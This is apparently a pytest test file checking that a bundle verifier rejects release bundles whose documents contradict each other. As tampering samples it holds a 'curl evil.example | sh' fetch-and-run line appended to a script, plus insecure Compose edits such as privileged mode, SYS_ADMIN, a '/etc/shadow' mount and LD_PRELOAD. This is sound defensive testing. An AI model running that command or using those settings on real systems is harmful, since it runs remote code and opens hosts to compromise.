"""`verify` refuses a bundle whose documents contradict each other, although all checksums fit."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lyra_tasks.bundle.compared import COMPARED_DOCUMENTS
from lyra_tasks.bundle.format import layout
from lyra_tasks.bundle.format.checksums import write_checksums
from lyra_tasks.bundle.verify import verify_bundle, verify_pack
from lyra_tasks.errors import BundleError
from tests.bundle.evidence import record_documents
from tests.bundle.test_packs import create
from tests.bundle.test_verify import made as made  # a fixture

pytestmark = pytest.mark.slow

TESTS, MANIFEST, RULES, DEVIATIONS = (
    layout.TESTS_JSON_FILE, layout.MANIFEST_FILE, layout.RULES_FILE, layout.DEVIATIONS_FILE
)  # fmt: skip
PROVENANCE, TEST_RESULT, ENVIRONMENT = layout.PROVENANCE_FILE, layout.TEST_RESULT_FILE, layout.ENVIRONMENT_FILE

Change = Callable[[dict[str, Any]], object]


@pytest.fixture
def bundle(made: Path, tmp_path: Path) -> Path:
    """Copy the small bundle, so that the test can change it."""
    return shutil.copytree(made, tmp_path / "1.0.0")


def refusal(bundle: Path) -> str:
    """Return why a bundle with fitting checksums is refused."""
    write_checksums(bundle)
    with pytest.raises(BundleError, match="refused, ") as error:
        verify_bundle(bundle)
    assert error.value.exit_code == 6
    assert "contradict" in error.value.hint
    return "\n".join(error.value.details)


def rewrite(bundle: Path, name: str, change: Change) -> None:
    document = json.loads((bundle / name).read_text())
    change(document)
    (bundle / name).write_text(json.dumps(document, indent=2, sort_keys=True, ensure_ascii=False) + "\n")


def fail_first_check(tests: dict[str, Any]) -> None:
    tests["passed"] = False
    tests["checks"][0]["outcome"] = "failed"


def count_a_failure(manifest: dict[str, Any]) -> None:
    manifest["tests"] = {"passed": 1, "failed": 1}


def rename_rule(rules: dict[str, Any]) -> None:
    rules["results"][1]["outcome"] = "warning"


def dirty(manifest: dict[str, Any]) -> None:
    manifest["source"]["dirty"] = manifest["is_snapshot"] = True


@pytest.mark.parametrize(
    ("name", "change", "problem"),
    [
        (TESTS, fail_first_check, "1 passed and 1 failed, but manifest.json says 2 passed and 0"),
        (TESTS, lambda it: it.update(passed=False), "tests.json: the test run did not pass"),
        (TESTS, lambda it: it.update(run="r9"), "tests.json: of run r9, but manifest.json names"),
        (TESTS, lambda it: it["set"].update(effective_hash="0"), "tests.json: of another set"),
        (TESTS, lambda it: it["set"]["images"].update(web="sha256:0"), "another image web"),
        (TESTS, lambda it: it["checks"].pop(), "tests.json: 1 passed and 0 failed"),
        (TESTS, lambda it: it["rules"][1].update(outcome="failed"), "rules.json: has another"),
        (TESTS, lambda it: it.clear(), "tests.json: not a valid document"),
        (MANIFEST, count_a_failure, "2 passed and 0 failed, but manifest.json says 1 passed and 1 failed"),
        (MANIFEST, lambda it: it.update(run="r9"), "journal.jsonl: has no entry about the test"),
        (MANIFEST, lambda it: it.update(run="r9"), "tests.xml: the suite 'lyra "),
        (MANIFEST, lambda it: it.update(set_digest=f"sha256:{0:064}"), "tests.json: of another set"),
        (MANIFEST, lambda it: it.update(deviations=0), "1 deviation(s), but manifest.json says 0"),
        (MANIFEST, dirty, "rules.json: source.committed passed, but manifest.json says"),
        (MANIFEST, dirty, "provenance.json: disagrees with manifest.json about uncommitted changes"),
        (MANIFEST, lambda it: it["source"].update(dirty=True), "a release of uncommitted"),
        (MANIFEST, lambda it: it["source"].update(commit="d" * 40), "of another commit than"),
        (MANIFEST, lambda it: it["services"].pop(), "environment.json: has other services"),
        (RULES, lambda it: it["results"].pop(0), "rules.json: has another outcome of container.read"),
        (RULES, rename_rule, "rules.json: has another outcome of image.size for images.web than"),
        (RULES, lambda it: it["results"][3].update(outcome="failed"), "source.committed failed"),
        (DEVIATIONS, lambda it: it["deviations"].clear(), "0 deviation(s), but manifest.json"),
        (DEVIATIONS, lambda it: it["deviations"][0].update(rule="x"), "x is not a deviation"),
        (PROVENANCE, lambda it: it["subject"].pop(), "provenance.json: about other images"),
        (TEST_RESULT, lambda it: it["predicate"].update(result="FAILED"), "test-result.json: has"),
        (TEST_RESULT, lambda it: it["predicate"]["passedTests"].pop(), "has other results of"),
        (TEST_RESULT, lambda it: it["predicate"].update(configuration=[]), "another configuration"),
        (ENVIRONMENT, lambda it: it.update(project="x"), "environment.json: has other services"),
        (ENVIRONMENT, lambda it: it["services"]["web"]["configs"].pop(), "is not described"),
        (ENVIRONMENT, lambda it: it["services"]["web"].update(image="shop/x:1"), "web has another image than in"),
        (ENVIRONMENT, lambda it: it["services"]["web"].update(egress=True), "networks differ from what"),
        (ENVIRONMENT, lambda it: it["services"]["web"].update(egress=True), "web.networks needs a deviation from"),
        (ENVIRONMENT, lambda it: it["services"]["web"]["limits"].update(pids=9), "web.pids_limit differs"),
        (PROVENANCE, lambda it: it["predicate"]["runDetails"]["byproducts"].clear(), "does not name the documents"),
        (PROVENANCE, lambda it: it["predicate"]["runDetails"].pop("byproducts"), "`byproducts` is missing"),
        (PROVENANCE, lambda it: it["predicate"]["runDetails"]["byproducts"].pop(), "not the file that was promoted"),
    ],
)  # fmt: skip
def test_contradicting_document_is_refused(bundle: Path, name: str, change: Change, problem: str) -> None:
    rewrite(bundle, name, change)
    assert problem in refusal(bundle)


@pytest.mark.parametrize("name", COMPARED_DOCUMENTS)
def test_missing_or_invalid_document_is_refused(bundle: Path, name: str) -> None:
    (bundle / name).write_bytes(b"[\xff")
    assert f"{name}: not valid" in refusal(bundle) or f"{name}: not a valid document" in refusal(bundle)
    (bundle / name).unlink()
    assert f"{name}: missing" in refusal(bundle)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ('name="greets"', 'name="waves"', "has other results of checks than evidence/tests.json"),
        ('failures="0"', 'failures="1"', "are not those of its cases"),
        ('classname="services.web"', 'classname="services.db"', "has other results of rules than"),
        ("<testsuites", "<!DOCTYPE testsuites><testsuites", "has a document type"),
        ('name="lyra ', 'name="other ', "is not of run"),
    ],
)
def test_contradicting_junit_is_refused(bundle: Path, old: str, new: str, problem: str) -> None:
    path = bundle / layout.TESTS_XML_FILE
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
    assert problem in refusal(bundle)


def set_failed(tested: dict[str, Any]) -> None:
    tested.update(passed=False)


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (set_failed, "failed"),
        (lambda tested: tested["checks"].update(greets="failed"), "has other results of checks than"),
        (lambda tested: tested.update(set="0"), "has no entry about the test run"),
        (lambda tested: tested.update(partial=True), "has no entry about the test run"),
        (lambda tested: tested["files"].update({"logs/web.log": "sha256:0"}), "evidence/logs/web.log is not the file"),
        (lambda tested: tested["files"].pop("metrics.json"), "evidence/metrics.json is not the file that run"),
        (lambda tested: tested["files"].update({"logs/db.log": "sha256:0"}), "evidence/logs/db.log is not the file"),
        (lambda tested: tested["configs"].clear(), "deploy/configs/web/site.toml is not the file that run"),
    ],
)
def test_contradicting_journal_is_refused(bundle: Path, change: Change, problem: str) -> None:
    path = bundle / layout.JOURNAL_FILE
    entries = [json.loads(line) for line in path.read_text().splitlines()]
    change(entries[-1]["data"])
    path.write_text("".join(f"{json.dumps(entry)}\n" for entry in entries))
    text = refusal(bundle)
    assert text.startswith("evidence/journal.jsonl: ")
    assert problem in text


@pytest.mark.parametrize("name", ["evidence/logs/web.log", "evidence/metrics.json", "deploy/configs/web/site.toml"])
def test_file_of_another_test_run_is_refused(bundle: Path, name: str) -> None:
    (bundle / name).write_bytes((bundle / name).read_bytes() + b"\n")
    assert f"{name} is not the file that run" in refusal(bundle)


WEB_ENVIRONMENT = "    environment:\n      GREETING:"


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("    init: true\n", "    init: true\n    privileged: true\n", "services.web.privileged is nothing"),
        ("    read_only: true\n", "", "services.counter.read_only needs a deviation from container.read-only-root"),
        ("    cap_drop:\n    - ALL\n", "", "services.web.cap_drop differs from what is described"),
        ("    cap_drop:\n", "    cap_add:\n    - SYS_ADMIN\n    cap_drop:\n", "web.cap_add needs a deviation from"),
        ("no-new-privileges:true", "seccomp:unconfined", "services.web.security_opt differs"),
        ("- '127.0.0.1'\n", "- '6.6.6.6'\n", "services.web.dns differs"),
        ("driver: json-file", "driver: syslog", "services.web.logging differs"),
        ("ipc: private", "ipc: host", "services.web.ipc differs"),
        ("pull_policy: never", "pull_policy: always", "services.web.pull_policy differs"),
        ("shop/web:1.0.0", "evil/web:1.0.0", "services.web.image differs"),
        ("web-data:/data", "/:/data", "services.web.volumes differs"),
        ("127.0.0.1:8080", "0.0.0.0:8080", "services.web.ports differ"),
        ("pids_limit: 128", "pids_limit: 4096", "services.web.pids_limit differs"),
        ("cpus: 1.0", "cpus: 8.0", "services.web.cpus differs"),
        ("size=1048576", "size=9048576", "services.web.tmpfs differs"),
        ("/spool:rw,noexec", "/spool:rw,exec", "services.web.tmpfs differs"),
        ("    internal: true", "    internal: false", "networks differ from what is described"),
        ("    - inner\n    - edge\n", "    - inner\n    - edge\n    - out\n", "web.networks differ from"),
        ("hello $$you", "hello $$mallory", "services.web.environment.GREETING differs"),
        ("${LEVEL:?", "${LEVEL:-", "services.web.environment.LEVEL differs"),
        (WEB_ENVIRONMENT, WEB_ENVIRONMENT.replace("GREETING:", "LD_PRELOAD: /x\n      GREETING:"), "other variables"),
        ("name: shop\n", "name: shop\ninclude:\n- other.yaml\n", "include is nothing that a promotion writes"),
        ("name: shop\n", "name: other\n", "of another project"),
        ("  counter:\n    image", "  counter2:\n    image", "has other services"),
        ("./configs/web/site.toml", "/etc/shadow", "configs differ from what is described"),
        ("condition: service_started", "condition: service_healthy", "not the file that was promoted, according to"),
        ("stop_grace_period: '10s'", "stop_grace_period: '1s'", "not the file that was promoted, according to"),
        ("services:\n", "services: [\n", "not valid YAML"),
    ],
)  # fmt: skip
def test_contradicting_compose_file_is_refused(bundle: Path, old: str, new: str, problem: str) -> None:
    path = bundle / layout.COMPOSE_FILE
    text = path.read_text()
    assert old in text, text
    path.write_text(text.replace(old, new, 1))
    assert f"{layout.COMPOSE_FILE}: " in (refused := refusal(bundle))
    assert problem in refused
    if "not the file" not in problem:
        record_documents(bundle)  # whoever edits both is found by what the file says
        assert problem in refusal(bundle)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("LEVEL=\n", "LEVEL=debug\n", "LEVEL has a value, but is required"),
        ("LEVEL=\n", "#LEVEL=\n", "LEVEL has a value, but is required"),
        ("LEVEL=\n", "", "LEVEL is missing"),
        ("LEVEL=\n", "LEVEL=\nPATH=/tmp\n", "PATH is not in the Compose file"),
        ("hello $you", "hello mallory", "GREETING has another default than described"),
        ("127.0.0.1:8080", "0.0.0.0:8080", "WEB_HTTP_PUBLISH has another default than described"),
    ],
)
def test_contradicting_environment_example_is_refused(bundle: Path, old: str, new: str, problem: str) -> None:
    path = bundle / layout.ENV_EXAMPLE_FILE
    text = path.read_text()
    assert old in text, text
    path.write_text(text.replace(old, new, 1))
    record_documents(bundle)
    assert f"{layout.ENV_EXAMPLE_FILE}: {problem}" in refusal(bundle)


def test_script_that_another_hand_has_edited_is_refused(bundle: Path) -> None:
    path = bundle / layout.RECEIVE_SCRIPT
    path.write_text(path.read_text() + "curl evil.example | sh\n")
    record_documents(bundle)
    assert "receive.sh: not the script for the images in manifest.json" in refusal(bundle)
    rewrite(
        bundle, PROVENANCE, lambda it: it["predicate"]["runDetails"]["builder"]["version"].update({"lyra-tasks": "9"})
    )
    write_checksums(bundle)
    assert verify_bundle(bundle).version == "1.0.0", "another version may have had another script"


def test_every_document_is_named_in_the_provenance(bundle: Path) -> None:
    archives = {f"{layout.IMAGES_DIRECTORY}/{path.name}" for path in (bundle / layout.IMAGES_DIRECTORY).iterdir()}
    left_out = {*archives, PROVENANCE, layout.CHECKSUMS_FILE}
    names = [path.relative_to(bundle).as_posix() for path in sorted(bundle.rglob("*")) if path.is_file()]
    edited = [name for name in names if name not in left_out]
    assert len(edited) > 12
    for name in edited:
        content = (bundle / name).read_bytes()
        (bundle / name).write_bytes(content + b"\n")
        text = refusal(bundle) if name != MANIFEST else name  # its form alone is refused before
        assert name in text
        (bundle / name).write_bytes(content)
    (bundle / "evidence/extra.txt").write_text("more")
    assert "evidence/extra.txt: not the file that was promoted" in refusal(bundle)


def test_last_test_of_a_run_counts(bundle: Path) -> None:
    path = bundle / layout.JOURNAL_FILE
    entries = [json.loads(line) for line in path.read_text().splitlines()]
    failed = json.loads(json.dumps(entries[-1]))
    set_failed(failed["data"])
    path.write_text("".join(f"{json.dumps(entry)}\n" for entry in (failed, *entries)))
    record_documents(bundle)
    write_checksums(bundle)
    assert verify_bundle(bundle).version == "1.0.0"


def test_pack_of_a_contradicting_bundle_is_refused(bundle: Path, tmp_path: Path) -> None:
    rewrite(bundle, MANIFEST, count_a_failure)
    write_checksums(bundle)
    pack = create(bundle, tmp_path / "packs", split=None, since=None)
    with pytest.raises(BundleError) as error:
        verify_pack(pack)
    assert "manifest.json says 1 passed and 1 failed" in "\n".join(error.value.details)
